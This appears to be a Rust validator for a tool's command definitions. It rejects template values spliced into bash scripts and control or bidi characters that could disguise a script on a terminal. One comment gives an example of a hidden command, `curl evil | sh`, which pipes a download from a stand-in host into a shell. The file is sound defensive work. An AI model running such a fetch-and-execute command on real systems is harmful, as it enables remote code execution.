//! Reads a command: `run:` (a bash script) or `argv:` (a program and its arguments). Values
//! reach a command only as environment variables or inside argv elements (whole, or part
//! of one: `--target={{ ou_id }}`), never as shell text, so `{{ }}` inside a script is
//! refused here.

use super::diag::Diagnostic;
use super::fields::{Cx, Fields, layout, pos_in};
use super::model::{Arg, Command};
use super::node::Node;
use super::template::{Template, whole_var};

/// `run:` or `argv:` from a step or check; both or a bad form is an error.
pub fn command(cx: &mut Cx, f: &Fields<'_>, what: &str) -> Option<Command> {
    match (f.get("run"), f.get("argv")) {
        (Some(_), Some(argv)) => {
            cx.error(
                Diagnostic::error(f.key_pos("argv").unwrap_or(argv.pos), format!("{what} has both `run` and `argv`"))
                    .width(4)
                    .hint("keep one: `run:` is a bash script, `argv:` a program and its arguments with no shell"),
            );
            None
        }
        (Some(run), None) => run_script(cx, run, "`run`"),
        (None, Some(argv)) => argv_command(cx, argv),
        (None, None) => None,
    }
}

pub fn run_script(cx: &mut Cx, node: &Node, what: &str) -> Option<Command> {
    let script = cx.string(node, what)?;
    if script.trim().is_empty() {
        cx.error(
            Diagnostic::error(node.pos, format!("{what} is empty"))
                .hint("write the command it runs (bash -euo pipefail -c), or remove the key"),
        );
        return None;
    }
    if let Some(at) = script.find("{{") {
        let name = Template::parse(&script[at..])
            .ok()
            .and_then(|t| t.vars().next().map(|(n, _)| n.to_string()))
            .unwrap_or_else(|| "name".into());
        cx.error(
            Diagnostic::error(
                pos_in(node, at),
                format!("`{{{{ }}}}` inside {what} would splice a value into shell text"),
            )
            .width(2)
            .hint(format!("values reach scripts as environment variables: write \"${name}\" (quoted), or use `argv:`")),
        );
        return None;
    }
    // A carriage return or an escape sequence makes a terminal show something other than
    // what bash will run (`curl evil | sh #\r echo hello` reads as `echo hello`).
    if let Some((at, c)) = script.char_indices().find(|&(_, c)| {
        (c.is_control() && c != '\n' && c != '\t') || crate::text_safety::is_bidi_control(c)
    }) {
        cx.error(
            Diagnostic::error(
                pos_in(node, at),
                format!("{what} holds the control character {c:?}, which would hide part of the script on a terminal"),
            )
            .hint("write the script with printable characters only (use printf escapes inside it if a command needs them)"),
        );
        return None;
    }
    Some(Command::Run {
        script,
        pos: node.pos,
        layout: layout(node),
    })
}

pub fn argv_command(cx: &mut Cx, node: &Node) -> Option<Command> {
    let items = cx.seq(node, "`argv`")?;
    if items.is_empty() {
        cx.error(
            Diagnostic::error(node.pos, "`argv` is empty")
                .hint("the first element is the program to run"),
        );
        return None;
    }
    let mut args = Vec::new();
    let mut ok = true;
    for (i, item) in items.iter().enumerate() {
        let Some(text) = cx.string(item, "an argv element") else {
            ok = false;
            continue;
        };
        if let Some(name) = whole_var(&text) {
            if i == 0 {
                cx.error(
                    Diagnostic::error(item.pos, "the program to run cannot come from a variable")
                        .width(item.width())
                        .hint("write the program's name or path literally"),
                );
                ok = false;
            }
            args.push(Arg::Var {
                name: name.to_string(),
                pos: item.pos,
            });
        } else if text.contains("{{") {
            // Part of an element: the values are spliced into this one element's text,
            // never into a shell.
            let Some(template) = cx.template_text(item, &text, "an argv element") else {
                ok = false;
                continue;
            };
            if i == 0 {
                cx.error(
                    Diagnostic::error(item.pos, "the program to run cannot come from a variable")
                        .width(item.width())
                        .hint("write the program's name or path literally"),
                );
                ok = false;
            }
            args.push(Arg::Part {
                template,
                pos: item.pos,
            });
        } else {
            args.push(Arg::Lit(text));
        }
    }
    ok.then_some(Command::Argv {
        args,
        pos: node.pos,
    })
}
